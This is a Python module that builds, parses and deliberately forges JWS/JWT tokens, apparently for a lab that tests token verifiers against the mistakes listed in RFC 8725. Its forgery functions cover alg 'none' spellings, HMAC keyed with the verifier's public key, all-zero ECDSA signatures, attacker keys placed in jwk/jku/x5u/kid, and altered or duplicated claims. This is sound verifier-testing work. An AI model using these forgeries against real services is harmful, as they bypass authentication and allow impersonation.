"""Tokens in JWS compact form: built, taken apart without trust, and forged on purpose.

The forms are those of RFC 7515 (JWS), RFC 7518 (algorithms) and RFC 7519 (JWT). Nothing here decides whether a token
is good: that is for the lab under test. Functions that sign take the key; ECDSA draws its nonce inside the
cryptography library, everything else is a pure function of its arguments.

The forgeries are the well-known mistakes of token verifiers, among them those that RFC 8725 section 2 lists.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Callable, Mapping
from typing import Any, NamedTuple

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

Sign = Callable[[bytes], bytes]
"""Takes the signing input (ASCII bytes of ``header.payload``), returns the raw signature."""

Json = Mapping[str, Any]

P256_OCTETS = 32
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE", "noNe", " none", "")
"""Ways to write the unsecured algorithm that careless comparisons let through."""


class JoseSyntaxError(ValueError):
    """The text is not a JWS in compact form."""


class Parts(NamedTuple):
    """A token taken apart without any check of its signature."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signature: bytes


def b64url(data: bytes) -> str:
    """Return base64url without padding (RFC 7515 section 2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    """Return the bytes of unpadded base64url.

    Raises:
        JoseSyntaxError: a character outside the alphabet, padding, or an impossible length.
    """
    try:
        return base64.b64decode(text.encode("ascii") + b"=" * (-len(text) % 4), altchars=b"-_", validate=True)
    except (UnicodeEncodeError, binascii.Error) as error:
        raise JoseSyntaxError(f"not base64url: {text[:40]!r}") from error


def _json_bytes(value: Json | bytes) -> bytes:
    if isinstance(value, bytes):
        return value
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode()


def signing_input(header: Json | bytes, claims: Json | bytes) -> bytes:
    """Return ``base64url(header).base64url(claims)`` as bytes; raw bytes are taken as they are (to be wrong)."""
    return f"{b64url(_json_bytes(header))}.{b64url(_json_bytes(claims))}".encode()


def encode(header: Json | bytes, claims: Json | bytes, sign: Sign) -> str:
    """Return the compact JWS of ``header`` and ``claims``, signed by ``sign``.

    Either part may be raw bytes: duplicate members, broken JSON or odd spacing then go out unchanged.
    """
    signed = signing_input(header, claims)
    return f"{signed.decode('ascii')}.{b64url(sign(signed))}"


def parse_unverified(token: str) -> Parts:
    """Take a compact JWS apart; the signature is not checked.

    Raises:
        JoseSyntaxError: not three parts, not base64url, or header or claims are not a JSON object.
    """
    parts = token.split(".")
    if len(parts) != 3:
        raise JoseSyntaxError(f"{len(parts)} parts between dots, expected 3")
    return Parts(_object(parts[0], "header"), _object(parts[1], "claims"), b64url_decode(parts[2]))


def _object(text: str, what: str) -> dict[str, Any]:
    try:
        value = json.loads(b64url_decode(text))
    except (ValueError, RecursionError) as error:
        raise JoseSyntaxError(f"the {what} part is not base64url of JSON") from error
    if not isinstance(value, dict):
        raise JoseSyntaxError(f"the {what} part is not a JSON object")
    return value


# --- signatures -------------------------------------------------------------------------------------------------


def signer(algorithm: str, key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey | bytes) -> Sign:
    """Return the signing function of ES256, RS256, PS256 or HS256 for ``key`` (bytes for HS256).

    Raises:
        ValueError: the algorithm is unknown or the key is not of its kind.
    """
    if algorithm == "ES256" and isinstance(key, ec.EllipticCurvePrivateKey) and isinstance(key.curve, ec.SECP256R1):
        return lambda data: raw_ecdsa(key.sign(data, ec.ECDSA(hashes.SHA256())))
    if algorithm == "RS256" and isinstance(key, rsa.RSAPrivateKey):
        return lambda data: key.sign(data, padding.PKCS1v15(), hashes.SHA256())
    if algorithm == "PS256" and isinstance(key, rsa.RSAPrivateKey):
        pss = padding.PSS(padding.MGF1(hashes.SHA256()), hashes.SHA256.digest_size)
        return lambda data: key.sign(data, pss, hashes.SHA256())
    if algorithm == "HS256" and isinstance(key, bytes):
        return hmac_signer(key)
    raise ValueError(f"cannot sign {algorithm} with a key of kind {type(key).__name__}; known: ES256 RS256 PS256 HS256")


def hmac_signer(key: bytes) -> Sign:
    """Return the HS256 signing function; any bytes are a key here, a PEM public key too."""
    return lambda data: hmac.digest(key, data, hashlib.sha256)


def raw_ecdsa(der: bytes) -> bytes:
    """Return a DER ECDSA signature over P-256 as ``r || s``, 64 octets (RFC 7518 section 3.4)."""
    r, s = decode_dss_signature(der)
    return r.to_bytes(P256_OCTETS, "big") + s.to_bytes(P256_OCTETS, "big")


def public_jwk(key: ec.EllipticCurvePublicKey) -> dict[str, str]:
    """Return the JWK of a P-256 public key (RFC 7518 section 6.2)."""
    point = key.public_numbers()
    x, y = (b64url(number.to_bytes(P256_OCTETS, "big")) for number in (point.x, point.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y}


# --- forgeries: each takes a token that would be accepted, and returns one that must not be ------------------------


def tampered_signature(token: str) -> str:
    """Flip one bit in the middle of the signature."""
    signed, _, signature = token.rpartition(".")
    raw = bytearray(b64url_decode(signature))
    if not raw:
        raise JoseSyntaxError("the token has no signature to tamper with")
    raw[len(raw) // 2] ^= 1
    return f"{signed}.{b64url(bytes(raw))}"


def altered_claims(token: str, claims: Json, *, drop: tuple[str, ...] = ()) -> str:
    """Change claims and keep the old signature."""
    header, old, signature = parse_unverified(token)
    return encode(header, _merged(old, claims, drop), lambda _: signature)


def resigned(token: str, sign: Sign, *, header: Json | None = None, claims: Json | None = None) -> str:
    """Change header or claims and sign anew with ``sign``: right or wrong, as the key is."""
    old_header, old_claims, _ = parse_unverified(token)
    return encode(_merged(old_header, header or {}), _merged(old_claims, claims or {}), sign)


def unsecured(token: str, spelling: str = "none", *, keep_signature: bool = False) -> str:
    """Declare ``alg`` none (in a spelling of :data:`NONE_SPELLINGS`); the signature goes, unless it is kept."""
    header, claims, signature = parse_unverified(token)
    return encode({**header, "alg": spelling}, claims, lambda _: signature if keep_signature else b"")


def stripped(token: str, *, keep_dot: bool = True) -> str:
    """Take the signature away and leave the header as it was."""
    signed, _, _ = token.rpartition(".")
    return f"{signed}." if keep_dot else signed


def hmac_with_public_key(token: str, public_key: bytes) -> str:
    """Declare HS256 and use the verifier's own public key (its PEM or DER bytes) as the secret."""
    return resigned(token, hmac_signer(public_key), header={"alg": "HS256"})


def with_secret(token: str, secret: bytes, kid: str | None = None) -> str:
    """Declare HS256 and use a secret of the attacker's choice, under a ``kid`` that may lead the verifier to it."""
    return resigned(token, hmac_signer(secret), header={"alg": "HS256", **({"kid": kid} if kid is not None else {})})


def zero_signature(token: str) -> str:
    """Put ``r = s = 0`` as the ECDSA signature, which a verifier without range checks takes for any text."""
    signed, _, _ = token.rpartition(".")
    return f"{signed}.{b64url(bytes(2 * P256_OCTETS))}"


def with_key_in_header(token: str, attacker: ec.EllipticCurvePrivateKey) -> str:
    """Sign with the attacker's key and offer that key in the header's ``jwk``."""
    header = {"alg": "ES256", "jwk": public_jwk(attacker.public_key())}
    return resigned(token, signer("ES256", attacker), header=header)


def with_key_at(token: str, attacker: ec.EllipticCurvePrivateKey, member: str, url: str) -> str:
    """Sign with the attacker's key and point ``jku``, ``x5u`` or ``kid`` at ``url``."""
    return resigned(token, signer("ES256", attacker), header={"alg": "ES256", member: url})


def with_kid(token: str, attacker: ec.EllipticCurvePrivateKey, kid: str) -> str:
    """Sign with the attacker's key under a ``kid`` of choice (unknown, a path, an injection)."""
    return resigned(token, signer("ES256", attacker), header={"alg": "ES256", "kid": kid})


def with_critical(token: str, sign: Sign, extension: str = "urn:imsproof:unknown") -> str:
    """Demand an extension that no verifier knows: it must refuse, however good the key (RFC 7515 section 4.1.11)."""
    return resigned(token, sign, header={"crit": [extension], extension: True})


def with_duplicate_claim(token: str, sign: Sign, claim: str, first: object) -> str:
    """Write ``claim`` twice in the payload, ``first`` before the token's own value, and sign it."""
    header, claims, _ = parse_unverified(token)
    payload = b"{" + json.dumps(claim).encode() + b":" + json.dumps(first).encode() + b"," + _json_bytes(claims)[1:]
    return encode(header, payload, sign)


def _merged(old: Json, new: Json, drop: tuple[str, ...] = ()) -> dict[str, Any]:
    return {name: value for name, value in {**old, **new}.items() if name not in drop}
